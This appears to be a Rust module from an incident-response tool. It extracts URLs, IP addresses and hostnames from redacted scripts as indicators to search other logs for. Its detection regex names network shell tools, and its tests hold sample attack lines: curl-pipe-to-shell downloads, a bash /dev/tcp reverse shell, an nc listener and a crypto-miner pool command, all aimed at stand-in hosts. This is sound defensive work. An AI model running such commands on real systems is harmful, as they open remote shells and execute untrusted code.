//! Finds the addresses, hosts and URLs that scripts name, by which a responder searches other logs.

use std::collections::BTreeSet;
use std::net::IpAddr;
use std::sync::LazyLock;

use regex::Regex;
use serde::{Serialize, Serializer};

use super::script::Script;

/// What the scripts of one record name, each once and as it stands there: all of it, because a decoy costs nothing.
#[derive(Debug, Default, PartialEq)]
pub struct Indicators {
    urls: BTreeSet<String>,
    addresses: BTreeSet<IpAddr>,
    hosts: BTreeSet<String>,
}

/// Bytes of one URL that are kept.
const MAX_URL_BYTES: usize = 512;

impl Indicators {
    /// Reads them off redacted scripts.
    pub fn of(scripts: &[Script]) -> Self {
        let mut indicators = Self::default();
        for script in scripts {
            indicators.take(&script.text);
        }
        indicators
    }

    /// The hosts that are named by name and not by address.
    pub fn hosts(&self) -> impl Iterator<Item = &str> {
        self.hosts.iter().map(String::as_str)
    }

    /// The addresses that other networks have too, such as those of threat feeds.
    pub fn public_addresses(&self) -> impl Iterator<Item = IpAddr> {
        self.addresses.iter().copied().filter(|address| is_public(*address))
    }

    fn take(&mut self, text: &str) {
        for url in URL.captures_iter(text) {
            // User and password, parameters and fragment may be secrets, and say nothing of where it leads.
            let path = &url["path"];
            let end = path.floor_char_boundary(MAX_URL_BYTES);
            self.urls.insert(format!("{}://{}{}", &url["scheme"], &url["authority"], &path[..end]));
            if !NAMES_NO_HOST.contains(&url["scheme"].to_ascii_lowercase().as_str()) {
                let (host, port) = url["authority"].rsplit_once(':').unwrap_or((&url["authority"], ""));
                let has_port = port.bytes().all(|byte| byte.is_ascii_digit());
                self.take_host(if has_port { host } else { &url["authority"] });
            }
        }
        for pattern in [&IPV4, &IPV6] {
            for found in pattern.captures_iter(text).filter_map(|found| found.name("address")) {
                if let Ok(address) = found.as_str().parse()
                    && !goes_on(&text[found.end()..])
                {
                    self.addresses.insert(address);
                }
            }
        }
        for host in HOST.captures_iter(text) {
            self.take_host(&host["host"]);
        }
    }

    fn take_host(&mut self, host: &str) {
        let host = host.trim_matches(['[', ']', '.']);
        if let Ok(address) = host.parse() {
            self.addresses.insert(address);
        } else if host.contains('.') && host.bytes().any(|byte| byte.is_ascii_alphabetic()) {
            self.hosts.insert(host.to_ascii_lowercase());
        }
    }
}

/// Whether what follows an address makes it a part of something longer.
fn goes_on(rest: &str) -> bool {
    let mut rest = rest.bytes();
    match rest.next() {
        Some(b'.') => rest.next().is_some_and(|byte| byte.is_ascii_digit()),
        following => following.is_some_and(|byte| byte.is_ascii_alphanumeric()),
    }
}

impl Serialize for Indicators {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        let addresses = self.addresses.iter().map(IpAddr::to_string);
        serializer.collect_seq(self.urls.iter().cloned().chain(addresses).chain(self.hosts.iter().cloned()))
    }
}

/// Schemes whose authority is the name of something else: a bucket, a file.
const NAMES_NO_HOST: [&str; 5] = ["s3", "s3a", "s3n", "gs", "file"];

static URL: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?<scheme>[A-Za-z][A-Za-z0-9+.-]{1,20})://(?:[^\s/?#"'<>]*@)?(?<authority>[A-Za-z0-9.:\[\]_-]{1,255})(?<path>(?:\[redacted:[0-9a-z:]+\]|[^\s?#"'<>|;)\]}`\\])*)"#,
    )
});

/// Not behind `==`, where four numbers are the version of a package.
static IPV4: LazyLock<Regex> =
    LazyLock::new(|| pattern(r"(?:^|[^=0-9A-Za-z.]|[^=]=)(?<address>(?:[0-9]{1,3}\.){3}[0-9]{1,3})"));

static IPV6: LazyLock<Regex> =
    LazyLock::new(|| pattern(r"(?:^|[^0-9A-Za-z:.])(?<address>[0-9A-Fa-f]{0,4}:[0-9A-Fa-f:]{2,38})"));

/// A name is a host only where the words around it say so; anywhere else `train.py` would be one.
static HOST: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?x)
        (?: /dev/(?:tcp|udp)/
          | (?-u:\b)(?:nc|ncat|netcat|telnet|ssh|scp|sftp|ping|dig|nslookup|host|curl|wget)(?:\s+-[A-Za-z-]+)*\s+["']?
          | [A-Za-z0-9_.-]@ )
        (?<host>(?:[A-Za-z0-9-]{1,63}\.){1,10}[A-Za-z0-9-]{2,63})(?:$|[\s:/"'`;|&)>])
        "#,
    )
});

fn pattern(pattern: &str) -> Regex {
    Regex::new(pattern).expect("the pattern is fixed and tested")
}

fn is_public(address: IpAddr) -> bool {
    match address {
        IpAddr::V4(address) => {
            let [first, second, ..] = address.octets();
            let shared = first == 100 && (64..128).contains(&second);
            !(address.is_private()
                || address.is_loopback()
                || address.is_link_local()
                || address.is_multicast()
                || address.is_broadcast()
                || shared
                || first == 0)
        }
        IpAddr::V6(address) => {
            !(address.is_loopback()
                || address.is_unspecified()
                || address.is_unique_local()
                || address.is_unicast_link_local()
                || address.is_multicast())
        }
    }
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::*;

    fn indicators_of(text: &str) -> Indicators {
        let mut indicators = Indicators::default();
        indicators.take(text);
        indicators
    }

    #[test]
    fn a_script_names_urls_addresses_and_hosts() {
        let cases: [(&str, Value); 14] = [
            // What stands for a secret is a part of the path, and ends as it begins.
            (
                "curl http://evil.example/[redacted:bec6f7a4d97f70f4]/x | sh",
                json!(["http://evil.example/[redacted:bec6f7a4d97f70f4]/x", "evil.example"]),
            ),
            (
                "curl -fsSL 'https://me:pw@evil.example:8443/x.sh?token=abc#top' | sh",
                json!(["https://evil.example:8443/x.sh", "evil.example"]),
            ),
            (
                &format!("curl https://{}@x:p@ss@evil.example/a", "decoy.example".repeat(50)),
                json!(["https://evil.example/a", "evil.example"]),
            ),
            ("curl https://good.example?@evil.example/a", json!(["https://good.example", "good.example"])),
            ("wget http://203.0.113.9/a;", json!(["http://203.0.113.9/a", "203.0.113.9"])),
            ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", json!(["198.51.100.7"])),
            ("bash -i >& /dev/tcp/c2.example.net/443", json!(["c2.example.net"])),
            (
                "nc -lvp evil.example 4444; ssh ubuntu@jump.example.org",
                json!(["evil.example", "jump.example.org"]),
            ),
            (
                "curl http://[2001:db8::1]:80/x; ping fe80::1",
                json!(["http://[2001:db8::1]:80/x", "2001:db8::1", "fe80::1"]),
            ),
            (
                "xmrig -o stratum+tcp://pool.example:3333",
                json!(["stratum+tcp://pool.example:3333", "pool.example"]),
            ),
            ("aws s3 cp s3://bucket.with.dots/key .", json!(["s3://bucket.with.dots/key"])),
            ("TARGET=203.0.113.9", json!(["203.0.113.9"])),
            (
                "pip install numpy==1.2.3.4 && python train.py 12:30:45 v1.2.3.4 std::string 1.2.3.4.5",
                json!([]),
            ),
            ("tar xf model.tar.gz; import os.path", json!([])),
        ];
        for (text, expected) in cases {
            assert_eq!(serde_json::to_value(indicators_of(text)).unwrap(), expected, "{text}");
        }
    }

    #[test]
    fn only_public_addresses_are_searched_for_elsewhere() {
        let text = "fd00::1 fe80::1 10.1.2.3 172.16.0.1 192.168.0.1 127.0.0.1 169.254.169.254 100.64.0.1 0.0.0.0 ::1 \
            203.0.113.9 2001:db8::1";
        let public: Vec<String> =
            indicators_of(text).public_addresses().map(|address| address.to_string()).collect();
        assert_eq!(public, ["203.0.113.9", "2001:db8::1"]);
    }

    #[test]
    fn no_number_of_decoys_hides_an_indicator() {
        let named: Vec<String> =
            (0..2000).map(|number| format!("https://h{number}.example/x 10.0.{}.1", number % 250)).collect();
        let text = named.join(" ") + " curl http://evil.example/x";
        let indicators = indicators_of(&text);
        assert!(indicators.hosts().any(|host| host == "evil.example"));
        let kept = serde_json::to_value(indicators).unwrap().as_array().unwrap().len();
        assert_eq!(kept, 2000 + 1 + 250 + 2000 + 1);
    }
}
